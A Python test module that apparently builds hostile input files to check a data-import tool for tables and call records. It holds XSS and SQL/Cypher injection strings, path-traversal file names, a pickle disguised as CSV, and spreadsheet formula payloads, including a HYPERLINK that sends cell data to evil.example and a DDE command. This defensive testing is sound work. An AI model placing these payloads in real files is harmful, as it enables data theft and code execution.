"""G: files made to do harm."""

import pickle

from tests.corpus.making import HEAD, Made, calls, case, good, goods, one, table, workbook

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
]
QUERIES = ["' OR 1=1 //", "`) DETACH DELETE n //", "\\u0060", "'); DROP TABLE facts; --", "${7*7}", "{{7*7}}"]
PEOPLE = ["person_a", "person_b", "relation"]


@case
def g01_scripts_in_every_text_field() -> Made:
    head = ["窝点名称", "地址", "姓名", "抓获时间", "角色", "辖区", "手机号码", "身份证号"]
    rows = [[s, s, s, "2023-05-01", s, s, s, s] for s in SCRIPTS]
    return one(table(*rows, head=head))


@case
def g02_queries_for_names() -> Made:
    return one(table(*([text, "李四", text] for text in QUERIES), head=PEOPLE))


@case
def g03_scripts_for_numbers() -> Made:
    return one(calls(*({"对方号码": text} for text in (*SCRIPTS, *QUERIES, "13900139001"))))


@case
def g04_hostile_column_names() -> Made:
    extra = ["'); DROP TABLE sheets; --", 'a"b', "=1+1", "<script>", "c0", "record_no", "raw"]
    return one(table(*([*row, *("x" for _ in extra)] for row in goods(2)), head=[*HEAD, *extra]))


@case
def g05_file_names() -> Made:
    names = [
        "<script>alert(1)<.csv",
        "..\\..\\CON.csv",
        "NUL.csv",
        "line\nend.csv",
        "'; DROP TABLE x; --.csv",
        "话单 终版(1).csv",
    ]
    return Made(tuple((name, table(*goods(1, k)).encode()) for k, name in enumerate(names, start=1)))


@case
def g06_addresses_in_cells() -> Made:
    row = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "file:///etc/passwd", "http://169.254.169.254/latest"]
    return one(table(row, head=PEOPLE))


@case
def g07_pickle_named_csv() -> Made:
    return one(pickle.dumps({"a": [1] * 99}))


@case
def g08_formulas_as_text_in_a_workbook() -> Made:
    def as_text(sheet: object) -> None:
        for row in sheet.iter_rows(min_row=2):  # type: ignore[attr-defined]
            for cell in row:
                cell.data_type = "s"

    return one(workbook(PEOPLE, ["=cmd|' /C calc'!A0", "@SUM(1)", "+1"], change=as_text), name="a.xlsx")


@case
def g09_hostile_sheet_name() -> Made:
    return one(workbook(HEAD, *goods(2), name="');DETACH--"), name="a.xlsx")


@case
def g10_control_codes_in_names() -> Made:
    return one(table(["张\x1b[31m三", "李\x07四", "同\x1f学"], head=PEOPLE))


@case
def g11_separators_of_our_own_inside_values() -> Made:
    """Signs with which ids and keys are put together: they must not make two records one."""
    return one(table(["a~b", "c|d", "x"], ["a", "b~c|d", "x"], ["a:b", "tel:+8613900139001", "x"], head=PEOPLE))


@case
def g12_one_very_long_line() -> Made:
    return one(table(good(1), "x" * 6_000_000 + "\n", good(3)))


@case
def g13_bytes_that_are_no_text() -> Made:
    return one(bytes((i * 7919 + i * i) % 256 for i in range(20_000)))
